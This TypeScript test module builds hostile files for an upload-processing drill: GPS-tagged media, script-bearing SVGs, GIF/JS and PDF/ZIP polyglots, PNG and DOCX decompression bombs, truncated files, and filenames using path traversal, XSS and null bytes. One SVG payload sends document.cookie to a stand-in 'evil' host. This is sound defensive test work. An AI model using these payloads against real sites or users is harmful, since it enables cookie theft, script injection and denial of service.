import { randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { createDeflate, crc32 } from 'node:zlib';
import sharp from 'sharp';
import { emptyParagraphsDocx } from './hostile-docx.js';
import { buildPdf, jpegWithExif, wav } from './media.js';
import { makeVideo, mediaDir } from './media-ffmpeg.js';

/**
 * Files built to hurt an upload and processing path (issue 11, point 5), for the hostile-upload
 * drill. Each kind is made once and varied cheaply per file (trailing bytes, a ZIP comment, a cut
 * at another length), so hundreds are ready in seconds and no two share a checksum (which would
 * make them duplicates of each other rather than new files to process).
 */
export interface HostileFile {
  /** What it is meant to test, for the drill's summary. */
  kind: string;
  filename: string;
  mimeType: string;
  bytes: Buffer;
  /** The size createUpload is told, when it lies (oversized); otherwise bytes.length. */
  declaredSize?: number;
}

type Maker = (n: number) => Omit<HostileFile, 'kind'>;

/** Bytes no decoder reads, after a file's end: a new checksum, the same content. */
const tail = (bytes: Buffer, n: number) => Buffer.concat([bytes, Buffer.from(`\n%${n}-${randomBytes(6).toString('hex')}`)]);

/** A ZIP made unique by its comment (the end-of-central-directory record is its last 22 bytes when it has none). */
function zipWithComment(zip: Buffer, n: number): Buffer {
  const comment = Buffer.from(`drill ${n}`);
  const out = Buffer.concat([zip, comment]);
  out.writeUInt16LE(comment.length, zip.length - 2);
  return out;
}

/** A PNG whose IHDR (with a correct CRC) claims another size than its pixels. */
export function pngClaiming(png: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(png);
  out.writeUInt32BE(width, 16);
  out.writeUInt32BE(height, 20);
  out.writeUInt32BE(crc32(out.subarray(12, 29)), 29);
  return out;
}

function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'ascii');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type, 'ascii'), data])));
  return Buffer.concat([head, data, crc]);
}

/**
 * A real decompression bomb: a white `side`×`side` RGB PNG, deflated row by row so the test never
 * holds the unpacked pixels (12,000² is 432 MB unpacked, about 0.4 MB packed).
 */
async function pngBomb(side: number): Promise<Buffer> {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (d: Buffer) => parts.push(d));
  const done = new Promise((r) => deflate.on('end', r));
  const row = Buffer.alloc(1 + side * 3, 0xff);
  row[0] = 0;
  for (let y = 0; y < side; y++) if (!deflate.write(row)) await new Promise((r) => deflate.once('drain', r));
  deflate.end();
  await done;
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', ihdr), chunk('IDAT', Buffer.concat(parts)), chunk('IEND', Buffer.alloc(0))]);
}

const HOSTILE_NAMES = ['../../etc/passwd.jpg', '..\\..\\windows\\win.ini.jpg', 'CON.jpg', 'photo\u202egpj.exe', '<img src=x onerror=alert(1)>.jpg', `${'a'.repeat(400)}.jpg`, ' .jpg', 'name\twith\nbreaks.jpg', '%00.jpg', '😀'.repeat(60) + '.jpg'];

/** Every kind, made once; `hostileFiles` cycles through them. */
export async function hostileKinds(): Promise<Array<[string, Maker]>> {
  const photo = await jpegWithExif({ latitude: 48.858093, longitude: 2.294694, dateTimeOriginal: '1999:12:31 23:59:00', make: 'Canon', model: 'Spy' }, 640, 480);
  const small = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } }).png().toBuffer();
  const bomb = await pngBomb(12_000);
  const docxBomb = await emptyParagraphsDocx(3_000_000);
  const pdf = buildPdf([['A letter', 'from Rose']]);
  const media = await mediaDir();
  let video: Buffer;
  try {
    video = await readFile(await makeVideo(media.path('gps.mp4'), { seconds: 1, location: '+48.8584+002.2945/' }));
  } finally {
    await media.remove();
  }
  const svg = (n: number) => Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(${n})"><script>fetch('//evil/'+document.cookie)</script><rect width="10" height="10"/></svg>`);
  return [
    ['photo with GPS', (n) => ({ filename: `holiday-${n}.jpg`, mimeType: 'image/jpeg', bytes: tail(photo, n) })],
    ['video with GPS', (n) => ({ filename: `clip-${n}.mp4`, mimeType: 'video/mp4', bytes: tail(video, n) })],
    ['SVG with script', (n) => ({ filename: `logo-${n}.svg`, mimeType: 'image/svg+xml', bytes: svg(n) })],
    ['SVG named as PNG', (n) => ({ filename: `logo-${n}.png`, mimeType: 'image/png', bytes: svg(n) })],
    ['JPEG declared as PDF', (n) => ({ filename: `letter-${n}.pdf`, mimeType: 'application/pdf', bytes: tail(photo, n) })],
    ['text declared as PNG', (n) => ({ filename: `photo-${n}.png`, mimeType: 'image/png', bytes: Buffer.from(`not a picture ${n}\n`.repeat(50)) })],
    ['GIF/JavaScript polyglot', (n) => ({ filename: `anim-${n}.gif`, mimeType: 'image/gif', bytes: Buffer.from(`GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(${n});//;`) })],
    ['PDF/ZIP polyglot', (n) => ({ filename: `doc-${n}.pdf`, mimeType: 'application/pdf', bytes: Buffer.concat([pdf, zipWithComment(docxBomb, n)]) })],
    ['JPEG with HTML after it', (n) => ({ filename: `pic-${n}.jpg`, mimeType: 'image/jpeg', bytes: Buffer.concat([photo, Buffer.from(`<html><script>alert(${n})</script></html>`)]) })],
    ['PNG claiming 50,000×50,000', (n) => ({ filename: `huge-${n}.png`, mimeType: 'image/png', bytes: tail(pngClaiming(small, 50_000, 50_000), n) })],
    ['PNG decompression bomb', (n) => ({ filename: `bomb-${n}.png`, mimeType: 'image/png', bytes: tail(bomb, n) })],
    ['DOCX zip bomb', (n) => ({ filename: `memories-${n}.docx`, mimeType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', bytes: zipWithComment(docxBomb, n) })],
    ['truncated JPEG', (n) => ({ filename: `cut-${n}.jpg`, mimeType: 'image/jpeg', bytes: photo.subarray(0, 400 + (n % 2000)) })],
    ['truncated video', (n) => ({ filename: `cut-${n}.mp4`, mimeType: 'video/mp4', bytes: video.subarray(0, 2000 + (n % 5000)) })],
    ['truncated PDF', (n) => ({ filename: `cut-${n}.pdf`, mimeType: 'application/pdf', bytes: pdf.subarray(0, Math.max(20, pdf.length - 40 - (n % 50))) })],
    ['empty file', (n) => ({ filename: `empty-${n}.jpg`, mimeType: 'image/jpeg', bytes: Buffer.alloc(0) })],
    ['oversized (size declared over the limit)', (n) => ({ filename: `big-${n}.jpg`, mimeType: 'image/jpeg', bytes: tail(photo, n), declaredSize: 10 * 1024 ** 3 })],
    ['hostile name', (n) => ({ filename: HOSTILE_NAMES[n % HOSTILE_NAMES.length]!, mimeType: 'image/jpeg', bytes: tail(photo, n) })],
    ['random bytes as a recording', (n) => ({ filename: `voice-${n}.m4a`, mimeType: 'audio/mp4', bytes: randomBytes(4096 + n) })],
    ['recording', (n) => ({ filename: `voice-${n}.wav`, mimeType: 'audio/wav', bytes: wav(8000 + n) })],
  ];
}

/** `count` hostile files, every kind in turn. */
export async function* hostileFiles(count: number): AsyncGenerator<HostileFile> {
  const kinds = await hostileKinds();
  for (let n = 0; n < count; n++) {
    const [kind, make] = kinds[n % kinds.length]!;
    yield { kind, ...make(n) };
  }
}
